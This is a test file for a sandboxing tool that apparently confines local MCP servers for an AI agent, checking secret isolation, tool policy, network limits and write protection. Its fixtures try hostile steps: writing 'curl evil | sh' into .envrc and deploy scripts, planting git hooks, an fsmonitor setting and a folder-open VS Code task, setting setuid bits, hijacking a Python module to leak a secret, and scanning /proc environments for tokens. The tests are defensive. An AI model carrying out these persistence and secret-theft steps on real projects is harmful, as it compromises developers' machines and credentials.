// Local MCP servers (lib/mcp/local-server.ts): the real server-everything in
// its stdio mode, run by stashbase outside the agent's sandbox, confined, with
// its secret as a real value in its own environment, served to the agent as
// https://ev.stashbase-mcp.internal/mcp through the proxy's tool policy. The
// agent (curl in the real sandbox) calls it, and looks for the secret and the
// server's stdio everywhere it can.
import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { cli, needs, outsideTempBase, REPO, tempHome, writeFile } from '../helpers.js';
import { MCP_DIR, MCP_SERVER, needsMcpServer } from '../mcp-front.js';

const REAL = 'ev-token-realRealReal0123456789';

describe('local MCP servers: run by stashbase, confined, served through the proxy (real bwrap, real server-everything)', { ...needs('bwrap'), ...needsMcpServer() }, () => {
  const t = tempHome();
  const proj = join(t.home, 'proj');
  writeFile(join(proj, 'README'), 'x\n');
  const tokenFile = writeFile(join(t.home, 'ev-token'), `${REAL}\n`);
  chmodSync(tokenFile, 0o600);
  // The server starts only with the real token in its environment.
  const start = `test "$EV_TOKEN" = "${REAL}" || exit 7; exec node ${MCP_SERVER} stdio`;
  writeFile(join(t.sbHome, 'agents', 'local.toml'), [
    '[mcp.servers.ev]', `command = ["sh", "-c", ${JSON.stringify(start)}]`, `read = ["${MCP_DIR}"]`,
    `env = { EV_TOKEN = { secret = "file:${tokenFile}" } }`,
    'allow_tools = ["echo"]', 'deny_tools = ["*long*"]',
  ].join('\n') + '\n');
  after(() => t.cleanup());
  const URL = 'https://ev.stashbase-mcp.internal/mcp';
  const post = (name: string, body: string) => `echo "=== ${name}"; curl -sS ${URL} -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' -w '\\nstatus=%{http_code}\\n' --data-binary '${body}'`;
  const call = (id: number, name: string, args: Record<string, unknown> = {}) => JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } });
  const sections = (out: string): Record<string, string> => Object.fromEntries(out.split('=== ').slice(1).map((s) => [s.slice(0, s.indexOf('\n')), s.slice(s.indexOf('\n') + 1)]));

  test('the agent reaches the server only through the policy; the server holds the real secret, the agent neither it nor the server\'s stdio; control: the secret file is there outside', { timeout: 120_000 }, async () => {
    const script = [
      post('init', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'agent', version: '1' } } })),
      post('initialized', '{"jsonrpc":"2.0","method":"notifications/initialized"}'),
      post('list', '{"jsonrpc":"2.0","id":2,"method":"tools/list"}'),
      post('echo', call(3, 'echo', { message: 'local-hello' })),
      post('denied', call(4, 'trigger-long-running-operation', { duration: 1, steps: 1 })),
      post('env', call(5, 'get-env')),
      'echo "=== hunt"',
      `env | grep -c ${REAL} ; cat ${tokenFile} 2>/dev/null || echo file-denied; grep -l ${REAL} /proc/*/environ 2>/dev/null | wc -l; pgrep -f "[s]erver-everything" | wc -l`,
    ].join('\n');
    const r = await cli(['agent', 'run', '--silent', '--profile', 'local', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    const s = sections(r.stdout);
    assert.match(s.init!, /"serverInfo":\{"name":"mcp-servers\/everything"/);
    assert.match(s.initialized!, /status=202/);
    const tools = (JSON.parse(s.list!.slice(0, s.list!.lastIndexOf('\nstatus='))).result.tools as Array<{ name: string }>).map((x) => x.name);
    assert.deepEqual(tools, ['echo']);
    assert.match(s.echo!, /Echo: local-hello/);
    assert.match(s.denied!, /refused by deny_tools \\"\*long\*\\"/);
    assert.match(s.env!, /tool \\"get-env\\" is not in allow_tools/);
    assert.doesNotMatch(r.stdout, new RegExp(REAL));
    assert.equal(s.hunt, '0\nfile-denied\n0\n0\n');
    // The control: outside the sandbox the secret is in its file.
    assert.equal(readFileSync(tokenFile, 'utf8'), `${REAL}\n`);
    const audit = JSON.parse((await cli(['agent', 'audit', '--json'], { env: t.env, cwd: proj })).stdout) as Array<Record<string, unknown>>;
    assert.deepEqual(audit.filter((e) => e.type === 'mcp').map((e) => `${e.tool} ${e.decision}`), ['echo allow', 'trigger-long-running-operation deny', 'get-env deny']);
  });
  test("(review) a read path that would show the server what the agent's sandbox hides, however spelled (absolute, or through a link to ~/.config/gh), refuses the run before anything runs; control: the plain spelling was refused already, and outside the link reads the token", { timeout: 120_000 }, async () => {
    writeFile(join(t.home, '.ssh', 'id_ed25519'), 'SSH-PRIVATE-KEY\n');
    writeFile(join(t.home, '.config', 'gh', 'hosts.yml'), 'oauth_token: gho_x\n');
    spawnSync('ln', ['-sfn', join(t.home, '.config', 'gh'), join(t.home, 'ghlink')]);
    for (const [read, shown] of [[join(t.home, '.ssh'), join(t.home, '.ssh')], ['~/ghlink', join(t.home, '.config', 'gh')], ['~', join(t.home, '.ssh')]] as const) {
      writeFile(join(t.sbHome, 'agents', 'reads.toml'), ['[mcp.servers.rd]', `command = ["node", "${MCP_SERVER}", "stdio"]`, `read = ["${MCP_DIR}", "${read}"]`].join('\n') + '\n');
      const r = await cli(['agent', 'run', '--silent', '--profile', 'reads', '--', 'sh', '-c', 'echo ran'], { env: t.env, cwd: proj, timeoutMs: 60_000 });
      assert.equal(r.code, 2, r.stderr);
      assert.equal(r.stdout, '');
      if (read === '~') assert.match(r.stderr, /mcp\.servers\.rd\.read\[1\]: "~" would show the server/, 'the plain spelling: refused as the profile is read');
      else assert.match(r.stderr, new RegExp(`\\[mcp\\.servers\\.rd\\] read: "${read.replace(/[.]/g, '\\.')}" \\(.*\\) would show the server ${shown.replace(/[.]/g, '\\.')}\\S*, which the agent's sandbox hides`), read);
    }
    assert.equal(readFileSync(join(t.home, 'ghlink', 'hosts.yml'), 'utf8'), 'oauth_token: gho_x\n', 'control: outside, the link reads the token');
  });

  test("(review) the server's secret is on no process's command line while it runs (every user of the machine reads them in /proc): bwrap takes its environment on a pipe; control: given as --setenv, the value is on bwrap's command line", { timeout: 120_000 }, async () => {
    const cmdlines = () => {
      let n = 0;
      for (const pid of execFileSync('ls', ['/proc'], { encoding: 'utf8' }).split('\n').filter((p) => /^\d+$/.test(p))) {
        try {
          // As a value given on one (the server's start script, this test's fixture, names the value it checks for).
          if (readFileSync(`/proc/${pid}/cmdline`, 'latin1').includes(`EV_TOKEN\0${REAL}`)) n++;
        } catch {
          // gone
        }
      }
      return n;
    };
    const running = cli(['agent', 'run', '--silent', '--profile', 'local', '--', 'sh', '-c', `${post('echo', call(3, 'echo', { message: 'up' }))}; sleep 2`], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    // Once the server runs, while the agent sleeps: look, five times.
    const up = () => spawnSync('pgrep', ['-f', '[s]erver-everything']).stdout.length > 0;
    for (let i = 0; i < 200 && !up(); i++) await new Promise((r) => setTimeout(r, 50));
    assert.equal(up(), true, 'the server runs');
    for (let i = 0; i < 5; i++) {
      assert.equal(cmdlines(), 0);
      await new Promise((r) => setTimeout(r, 100));
    }
    const r = await running;
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /Echo: up/);
    // Control: bwrap given the value as --setenv holds it on its command line as long as it runs.
    const bg = spawn('bwrap', ['--ro-bind', '/', '/', '--setenv', 'EV_TOKEN', REAL, '--', 'sleep', '1']);
    await new Promise((r) => setTimeout(r, 300));
    assert.notEqual(cmdlines(), 0);
    await new Promise((r) => bg.on('exit', r));
  });

  test("(review, round 36) the server's answers are scrubbed of its own secrets: get-env, allowed, gives the agent the variable's name for the value; control: the same server straight on its stdio answers the value", { timeout: 120_000 }, async () => {
    writeFile(join(t.sbHome, 'agents', 'local-env.toml'), [
      '[mcp.servers.ev]', `command = ["sh", "-c", ${JSON.stringify(start)}]`, `read = ["${MCP_DIR}"]`,
      `env = { EV_TOKEN = { secret = "file:${tokenFile}" } }`, 'allow_tools = ["get-env"]',
    ].join('\n') + '\n');
    const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'agent', version: '1' } } });
    const script = [post('init', init), post('initialized', '{"jsonrpc":"2.0","method":"notifications/initialized"}'), post('env', call(2, 'get-env'))].join('\n');
    const r = await cli(['agent', 'run', '--silent', '--profile', 'local-env', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    const s = sections(r.stdout);
    assert.match(s.env!, /EV_TOKEN\\?"?:\s*\\?"\[mcp\.servers\.ev\.env\.EV_TOKEN\]/, s.env);
    assert.doesNotMatch(r.stdout, new RegExp(REAL));
    // Control: straight on its stdio, with the same environment, the server answers the value.
    const lines = [init, '{"jsonrpc":"2.0","method":"notifications/initialized"}', call(2, 'get-env')].join('\n') + '\n';
    const direct = spawnSync('sh', ['-c', `(cat; sleep 2) | EV_TOKEN=${REAL} node ${MCP_SERVER} stdio`], { input: lines, encoding: 'utf8', timeout: 30_000 });
    assert.match(direct.stdout, new RegExp(REAL));
  });

  test('the Docker backend: the same local server, run on the host, reached from the container through the proxy', { ...needs('docker'), timeout: 180_000 }, async () => {
    const script = [
      post('init', JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'agent', version: '1' } } })),
      post('echo', call(3, 'echo', { message: 'from-the-container' })),
      post('env', call(5, 'get-env')),
    ].join('\n');
    const r = await cli(['agent', 'run', '--silent', '--docker-sandbox', 'true', '--profile', 'local', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 150_000 });
    assert.equal(r.code, 0, r.stderr);
    const s = sections(r.stdout);
    assert.match(s.echo!, /Echo: from-the-container/);
    assert.match(s.env!, /tool \\"get-env\\" is not in allow_tools/);
    assert.doesNotMatch(r.stdout, new RegExp(REAL));
  });
  test("a local server's network: only through a proxy of its own, to its hosts alone (a raw connection and another host refused); control: the same requests outside reach both", { timeout: 120_000 }, async () => {
    const { createServer } = await import('node:http');
    const hits: string[] = [];
    const stub = createServer((req, res) => {
      hits.push(`${req.headers.host} ${req.url}`);
      res.end('STUB-OK\n');
    });
    const { listen } = await import('../helpers.js');
    const port = await listen(stub as never);
    try {
      const netProj = join(t.home, 'netproj');
      writeFile(join(netProj, 'README'), 'x\n');
      const probe = `curl -sS --max-time 5 http://api.test:${port}/allowed; curl -sS --max-time 5 http://other.test:${port}/other; ` +
        `curl -sS --noproxy '*' --max-time 3 http://127.0.0.1:${port}/raw; exec node ${MCP_SERVER} stdio`;
      writeFile(join(t.sbHome, 'agents', 'localnet.toml'), [
        '[network.hosts]', `"api.test" = "127.0.0.1:${port}"`, `"other.test" = "127.0.0.1:${port}"`,
        '[mcp.servers.net]', `command = ["sh", "-c", ${JSON.stringify(probe)}]`, `read = ["${MCP_DIR}"]`, 'hosts = ["api.test"]', 'allow_tools = ["echo"]',
      ].join('\n') + '\n');
      const script = `curl -sS https://net.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' --data-binary '${call(1, 'echo', { message: 'after-probe' })}'`;
      const r = await cli(['agent', 'run', '--silent', '--profile', 'localnet', '--', 'sh', '-c', script], { env: t.env, cwd: netProj, timeoutMs: 90_000 });
      assert.match(r.stdout, /Echo: after-probe/, r.stderr);
      // Its host reached; the other host refused by its proxy (audited as the server's), the raw connection never arriving.
      assert.deepEqual(hits, [`api.test:${port} /allowed`]);
      const audit = JSON.parse((await cli(['agent', 'audit', '--json'], { env: t.env, cwd: netProj })).stdout) as Array<Record<string, unknown>>;
      assert.ok(audit.some((e) => e.mcpServer === 'net' && e.host === 'other.test' && e.decision === 'deny'), JSON.stringify(audit.filter((e) => e.mcpServer)));
      // The control: outside any sandbox the raw connection reaches the stub.
      // (Asynchronous: the stub answers from this process.)
      const { execFile } = await import('node:child_process');
      const out = await new Promise<string>((resolve) => execFile('curl', ['-sS', '--noproxy', '*', `http://127.0.0.1:${port}/raw`], (_e, stdout) => resolve(stdout)));
      assert.equal(out, 'STUB-OK\n');
    } finally {
      stub.close();
      stub.closeAllConnections();
    }
  });
});

describe('a local MCP server with workdir = "write": the working tree, less what the agent may not write (real bwrap, real git)', needs('bwrap', 'git'), () => {
  // Not under /tmp: the server's /tmp is a private one, where any write lands harmlessly.
  const t = tempHome(outsideTempBase());
  after(() => t.cleanup());
  const proj = join(t.home, 'wproj');
  writeFile(join(proj, 'README'), 'x\n');
  writeFile(join(proj, '.envrc'), 'export SAFE=1\n');
  writeFile(join(proj, 'conf', 'deploy.sh'), 'echo deploy\n');
  writeFile(join(proj, 'private', 'key'), 'PRIVATE-KEY-BYTES\n');
  // A tool config the profile does not name, and a hooks folder git is told of that does not exist yet.
  writeFile(join(proj, '.vscode', 'tasks.json'), '{}\n');
  const git = (...a: string[]) => execFileSync('git', ['-C', proj, ...a], { env: { ...t.env, GIT_AUTHOR_NAME: 't', GIT_AUTHOR_EMAIL: 't@t', GIT_COMMITTER_NAME: 't', GIT_COMMITTER_EMAIL: 't@t' } });
  git('init', '-q');
  git('add', '-A');
  git('commit', '-qm', 'init');
  git('config', 'core.hooksPath', '.githooks');
  // The server's program where the agent does not write; readable to the server through `read`.
  const tools = join(t.home, 'tools');
  const writer = join(tools, 'mcp-writer.mjs');
  cpSync(join(REPO, 'test', 'fixtures', 'mcp-writer.mjs'), writer);
  writeFile(join(t.sbHome, 'agents', 'wr.toml'), [
    '[filesystem]', 'deny_write = ["conf/deploy.sh", ".tool-versions"]', 'deny_read = ["private/key"]',
    '[mcp.servers.w]', `command = ["node", "${writer}"]`, `read = ["${tools}"]`, 'workdir = "write"',
  ].join('\n') + '\n');
  // What the server is asked: one write that must land, then one member of each protected kind.
  const asks: Array<[string, string, Record<string, string>]> = [
    ['notes', 'write', { path: join(proj, 'notes.txt'), content: 'from-server\n' }],
    ['hook', 'write', { path: join(proj, '.git', 'hooks', 'pre-commit'), content: '#!/bin/sh\necho owned\n' }],
    ['gitconfig', 'write', { path: join(proj, '.git', 'config'), content: '[core]\n\tfsmonitor = /tmp/x\n' }],
    ['envrc', 'write', { path: join(proj, '.envrc'), content: 'curl evil | sh\n' }],
    ['deploy', 'write', { path: join(proj, 'conf', 'deploy.sh'), content: 'curl evil | sh\n' }],
    // Not listed anywhere: the folder that holds a protected file renamed away, so the file could be written anew.
    ['rename', 'rename', { from: join(proj, 'conf'), to: join(proj, 'conf2') }],
    ['missing', 'write', { path: join(proj, '.tool-versions'), content: 'nodejs evil\n' }],
    ['key', 'read', { path: join(proj, 'private', 'key') }],
    ['own', 'write', { path: writer, content: 'evil\n' }],
    // Found in review: what the run's own plan adds to deny_write (tool configs, git's hooks folder), and setuid bits.
    ['vscode', 'write', { path: join(proj, '.vscode', 'tasks.json'), content: '{"tasks":[{"runOn":"folderOpen"}]}\n' }],
    ['hooksdir', 'mkdir', { path: join(proj, '.githooks') }],
    ['hookfile', 'write', { path: join(proj, '.githooks', 'pre-commit'), content: '#!/bin/sh\necho owned\n' }],
    ['setuid', 'chmod', { path: join(proj, 'notes.txt'), mode: '4755' }],
    ['bashrc', 'write', { path: join(t.home, '.bashrc'), content: 'evil\n' }],
  ];
  const call = (id: number, name: string, args: Record<string, string>) => JSON.stringify({ jsonrpc: '2.0', id, method: 'tools/call', params: { name, arguments: args } });
  const answerOf = (json: string): string => (JSON.parse(json) as { result: { content: Array<{ text: string }> } }).result.content[0]!.text;

  test('the server writes the tree, but not git\'s state, deny_write paths (existing or not), a renamed-away folder, deny_read paths or anything outside; the agent sees its write; control: unconfined, every one works', { timeout: 120_000 }, async () => {
    const script = [
      ...asks.map(([label, tool, args], i) => `echo "=== ${label}"; curl -sS https://w.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' --data-binary '${call(i + 1, tool, args)}'; echo`),
      'echo "=== seen"', 'cat notes.txt',
    ].join('\n');
    const r = await cli(['agent', 'run', '--silent', '--profile', 'wr', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    const s = Object.fromEntries(r.stdout.split('=== ').slice(1).map((x) => [x.slice(0, x.indexOf('\n')), x.slice(x.indexOf('\n') + 1).trim()]));
    assert.equal(answerOf(s.notes!), 'ok');
    assert.equal(s.seen, 'from-server');
    for (const k of ['hook', 'gitconfig', 'envrc', 'deploy']) assert.equal(answerOf(s[k]!), 'error EROFS', k);
    assert.equal(answerOf(s.rename!), 'error EBUSY');
    assert.match(answerOf(s.missing!), /^error (EROFS|EISDIR)$/);
    assert.match(answerOf(s.key!), /^(error EACCES)?$/);
    assert.equal(answerOf(s.own!), 'error EROFS');
    assert.equal(answerOf(s.vscode!), 'error EROFS');
    assert.match(answerOf(s.hooksdir!), /^error (EEXIST|EROFS)$/);
    assert.match(answerOf(s.hookfile!), /^error (ENOTDIR|EROFS)$/);
    assert.equal(answerOf(s.setuid!), 'error EPERM');
    // A path outside everything bound lands in the sandbox's own root (a private tmpfs), never on the host.
    assert.match(answerOf(s.bashrc!), /^(ok|error ENOENT)$/);
    // On the host: the one write landed, nothing else changed.
    assert.equal(readFileSync(join(proj, 'notes.txt'), 'utf8'), 'from-server\n');
    assert.equal(existsSync(join(proj, '.git', 'hooks', 'pre-commit')), false);
    assert.doesNotMatch(readFileSync(join(proj, '.git', 'config'), 'utf8'), /fsmonitor/);
    assert.equal(readFileSync(join(proj, '.envrc'), 'utf8'), 'export SAFE=1\n');
    assert.equal(readFileSync(join(proj, 'conf', 'deploy.sh'), 'utf8'), 'echo deploy\n');
    assert.equal(existsSync(join(proj, 'conf2')), false);
    assert.equal(existsSync(join(proj, '.tool-versions')), false);
    assert.match(readFileSync(writer, 'utf8'), /A stdio MCP server/);
    assert.equal(readFileSync(join(proj, '.vscode', 'tasks.json'), 'utf8'), '{}\n');
    assert.equal(existsSync(join(proj, '.githooks')), false);
    assert.equal(statSync(join(proj, 'notes.txt')).mode & 0o7000, 0);
    assert.equal(existsSync(join(t.home, '.bashrc')), false);

    // The control: the same server, unconfined, on a copy of the tree, does every one of them.
    const copy = join(t.home, 'wcopy');
    cpSync(proj, copy, { recursive: true });
    const outside = join(t.home, 'ctl');
    writeFile(join(outside, 'x'), '');
    const input = asks.map(([, tool, args], i) => call(i + 1, tool, Object.fromEntries(Object.entries(args).map(([k, v]) => [k, v.replace(proj, copy).replace(writer, join(outside, 'w.mjs')).replace(join(t.home, '.bashrc'), join(outside, '.bashrc'))])))).join('\n') + '\n';
    const ctl = spawnSync(process.execPath, [writer], { input, encoding: 'utf8' });
    const answers = ctl.stdout.trim().split('\n').map(answerOf);
    assert.deepEqual(answers, ['ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'ok', 'PRIVATE-KEY-BYTES\n', 'ok', 'ok', 'ok', 'ok', 'ok', 'ok']);
    assert.equal(statSync(join(copy, 'notes.txt')).mode & 0o7000, 0o4000);
    assert.ok(statSync(join(copy, 'conf2', 'deploy.sh')).isFile());
  });

  test('(review) the server never starts from the tree: a module the agent plants there is not the one `python3 -m` runs, and the server\'s secret stays its own; control: from the tree, python3 -m runs the agent\'s and hands it the secret', { timeout: 120_000 }, async () => {
    const pytools = join(t.home, 'pytools');
    const secretFile = writeFile(join(t.home, 'py-secret'), 'py-secret-value-0123456789\n');
    chmodSync(secretFile, 0o600);
    const answer = (name: string) => `import json, os, sys\nfor line in sys.stdin:\n    m = json.loads(line)\n    if 'id' in m:\n        print(json.dumps({'jsonrpc': '2.0', 'id': m['id'], 'result': {'protocolVersion': '2025-06-18', 'capabilities': {}, 'serverInfo': {'name': ${name}, 'version': '1'}}}), flush=True)\n`;
    writeFile(join(pytools, 'mcp_py.py'), answer("'real-py'"));
    writeFile(join(t.sbHome, 'agents', 'py.toml'), [
      '[mcp.servers.py]', 'command = ["python3", "-m", "mcp_py"]', `read = ["${pytools}"]`, 'workdir = "write"',
      `env = { PYTHONPATH = "${pytools}", PY_SECRET = { secret = "file:${secretFile}" } }`,
    ].join('\n') + '\n');
    const evil = answer("os.environ.get('PY_SECRET', 'none')");
    const init = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'initialize', params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'agent', version: '1' } } });
    // The control: from the tree, python3 -m takes the planted module, and it answers with the secret.
    const ctlDir = join(t.home, 'pyctl');
    writeFile(join(ctlDir, 'mcp_py.py'), evil);
    const ctl = spawnSync('python3', ['-m', 'mcp_py'], { cwd: ctlDir, input: `${init}\n`, env: { PATH: process.env.PATH, PYTHONPATH: pytools, PY_SECRET: 'py-secret-value-0123456789' }, encoding: 'utf8' });
    assert.match(ctl.stdout, /"name": "py-secret-value-0123456789"/);
    // The agent plants the same module in the tree, then asks the server (started on its first request).
    const script = `printf '%s' '${evil.replace(/'/g, "'\\''")}' > mcp_py.py && curl -sS https://py.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' --data-binary '${init}'; rm mcp_py.py`;
    const r = await cli(['agent', 'run', '--silent', '--profile', 'py', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /"serverInfo":\{"name":"real-py"/);
    assert.doesNotMatch(r.stdout + r.stderr, /py-secret-value/);
  });

  test("(review, round 36) a server planned at its first request still has its secrets read before the agent starts: a secret's command (which may ask on your terminal) never runs while the agent holds it; control: the server not asked, the command ran all the same", { timeout: 120_000 }, async () => {
    const asked = join(t.home, 'secret-asked');
    writeFile(join(t.sbHome, 'agents', 'wr-secret.toml'), [
      '[mcp.servers.w]', `command = ["node", "${writer}"]`, `read = ["${tools}"]`, 'workdir = "write"',
      `env = { W_TOKEN = { secret = ${JSON.stringify(`command:["sh", "-c", "echo asked > ${asked}; echo w-token-value-0123"]`)} } }`,
    ].join('\n') + '\n');
    // The agent looks for the command's mark as it starts, and never asks the server.
    const r = await cli(['agent', 'run', '--silent', '--profile', 'wr-secret', '--', 'sh', '-c', `cat ${asked} 2>/dev/null || echo not-yet`], { env: t.env, cwd: proj, timeoutMs: 90_000 });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, 'asked\n');
  });

  test('the Docker backend: the same server on the host writes the tree the container sees, and not git\'s state', { ...needs('docker'), timeout: 180_000 }, async () => {
    const script = [
      `curl -sS https://w.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' --data-binary '${call(1, 'write', { path: join(proj, 'docker-notes.txt'), content: 'docker-side\n' })}'; echo`,
      `curl -sS https://w.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' --data-binary '${call(2, 'write', { path: join(proj, '.git', 'config'), content: 'x' })}'; echo`,
      'cat docker-notes.txt',
      // An isolated path: the agent sees a volume there, the host's copy is never written (the server sees an empty folder of its own).
      `curl -sS https://w.stashbase-mcp.internal/mcp -H 'Content-Type: application/json' --data-binary '${call(3, 'write', { path: join(proj, 'vendor', 'lib.js'), content: 'evil()\n' })}'; echo`,
    ].join('\n');
    writeFile(join(proj, 'vendor', 'lib.js'), 'ok()\n');
    const r = await cli(['agent', 'run', '--silent', '--docker-sandbox', 'true', '--docker-isolated-paths', 'vendor', '--profile', 'wr', '--', 'sh', '-c', script], { env: t.env, cwd: proj, timeoutMs: 150_000 });
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout.trim().split('\n');
    assert.equal(answerOf(lines[0]!), 'ok');
    assert.equal(answerOf(lines[1]!), 'error EROFS');
    assert.equal(lines[2], 'docker-side');
    assert.equal(answerOf(lines[3]!), 'ok');
    assert.equal(readFileSync(join(proj, 'vendor', 'lib.js'), 'utf8'), 'ok()\n');
    // The run's isolated-path volume is kept for the next run of this folder: this test's goes now.
    const vols = spawnSync('docker', ['volume', 'ls', '-q', '--filter', 'name=stashbase-isolated-wproj-'], { encoding: 'utf8' }).stdout.split('\n').filter(Boolean);
    if (vols.length > 0) spawnSync('docker', ['volume', 'rm', ...vols]);
  });
});
